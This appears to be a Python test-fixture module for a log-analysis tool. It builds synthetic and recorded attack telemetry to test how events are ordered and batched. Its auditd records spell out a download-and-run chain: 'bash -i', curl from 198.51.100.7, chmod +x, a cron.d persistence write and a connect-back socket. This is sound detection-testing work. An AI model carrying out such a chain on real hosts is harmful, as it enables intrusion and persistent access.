"""A few minutes of made-up telemetry of two endpoints, in which everything stands that could depend on order."""

import gzip
import random
import re
from collections import Counter
from datetime import UTC, datetime, timedelta
from itertools import islice
from pathlib import Path

from logster import demo_host
from logster.demo_attack import Intrusion, intrude
from logster.demo_host import WindowsHost

DEMO_DATA = Path(demo_host.__file__).with_name("demo_data")
SHARED_CAPTURES = Path(__file__).resolve().parents[3] / "shared/data/windows/otrf-atomic"
_TIME = re.compile(r'"@timestamp":"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3})Z"')
START = datetime(2026, 3, 2, 9, 57, tzinfo=UTC)


def cut(lines: list[str], seed: int, n_batches: int) -> list[list[str]]:
    """Lines in any order over so many micro-batches, a tenth of them sent again in another."""
    rng = random.Random(seed)
    batches: list[list[str]] = [[] for _ in range(n_batches)]
    for line in rng.sample(lines, len(lines)):
        batches[rng.randrange(n_batches)].append(line)
    for line in rng.sample(lines, len(lines) // 10):
        batches[rng.randrange(n_batches)].append(line)
    return batches


def recorded_lines() -> list[str]:
    """A quarter of a minute or so of a real Linux machine under attack, and the start of each of two real Windows captures
    where the development telemetry lies beside the checkout.
    """
    with gzip.open(DEMO_DATA / "host33-cron-connect-back.audit.log.gz", "rt", encoding="utf-8") as file:
        lines = file.read().splitlines()[4_000:5_200]
    for capture in sorted(SHARED_CAPTURES.glob("psh_*.jsonl.gz"))[:2]:
        with gzip.open(capture, "rt", encoding="utf-8") as file:
            lines += list(islice((line.rstrip("\n") for line in file), 400))
    return lines


def windows_lines() -> list[str]:
    """An intrusion on one endpoint that goes on to the next, without the work beside it.

    No two events are of the same microsecond: of two that are, the id decides which comes first.
    """
    hosts = [
        WindowsHost(name, "acme.example", user=user, address=address, began=START, seed=7)
        for name, user, address in (("WS-01", "j.lindqvist", "10.20.4.31"), ("WS-02", "m.okafor", "10.20.4.32"))
    ]
    intrude(hosts[0], hosts[1], START + timedelta(seconds=20), Intrusion.drawn("7"))
    lines = [line for host in hosts for line in host.lines_until(START + timedelta(minutes=6))]
    seen: Counter[str] = Counter()

    def at_its_own_time(line: str) -> str:
        found = _TIME.search(line)
        assert found
        seen[found[1]] += 1
        return line[: found.end(1)] + f"{seen[found[1]]:03d}" + line[found.end(1) :]

    return [at_its_own_time(line) for line in lines]


def audit_lines() -> list[str]:
    """Events of several records; a pid that comes back; children told before their parent; an end without a start."""
    lines: list[str] = []
    at = int(START.timestamp())

    def event(second: float, serial: int, *records: str) -> None:
        whole, millis = divmod(round(second * 1000), 1000)
        lines.extend(
            f"node=web-01 type={kind} msg=audit({at + whole}.{millis:03d}:{serial}): {rest}"
            for kind, rest in (record.split(" ", 1) for record in records)
        )

    def started(second: float, serial: int, pid: int, ppid: int, path: str, *words: str) -> None:
        told = " ".join(f'a{number}="{word}"' for number, word in enumerate(words))
        event(
            second, serial,
            f"SYSCALL arch=c000003e syscall=59 success=yes exit=0 items=1 ppid={ppid} pid={pid} auid=1000 uid=1000 "
            f'ses=4 comm="{words[0]}" exe="{path}" key="exec"',
            f"EXECVE argc={len(words)} {told}",
            'CWD cwd="/srv"',
            f'PATH item=0 name="{path}" inode=7 nametype=NORMAL',
        )  # fmt: skip

    def wrote(second: float, serial: int, pid: int, path: str) -> None:
        event(
            second, serial,
            f"SYSCALL arch=c000003e syscall=257 success=yes exit=3 a2=241 items=1 ppid=1 pid={pid} auid=1000 uid=1000 "
            f'ses=4 comm="x" exe="/bin/x" key="write"',
            f'PATH item=0 name="{path}" inode=9 nametype=CREATE',
        )  # fmt: skip

    started(1, 101, 500, 1, "/bin/bash", "bash", "-i")
    started(5.5, 102, 501, 500, "/usr/bin/curl", "curl", "-s", "http://198.51.100.7/x")
    wrote(6.25, 103, 501, "/tmp/x")
    started(70, 104, 502, 500, "/bin/chmod", "chmod", "+x", "/tmp/x")
    event(95, 105, "SYSCALL arch=c000003e syscall=231 a0=0 items=0 ppid=500 pid=501 auid=1000 uid=1000 ses=4 comm=\"curl\" "
          "exe=\"/usr/bin/curl\"")  # fmt: skip
    started(130, 106, 501, 502, "/tmp/x", "x", "--quiet")
    wrote(150.125, 107, 501, "/etc/cron.d/x")
    wrote(151.125, 108, 777, "/var/log/other")
    event(
        199, 109,
        "SYSCALL arch=c000003e syscall=42 success=yes exit=0 items=0 ppid=502 pid=501 auid=1000 uid=0 ses=4 "
        'comm="x" exe="/tmp/x"',
        "SOCKADDR saddr=02001F90C63364070000000000000000",
    )  # fmt: skip
    return lines
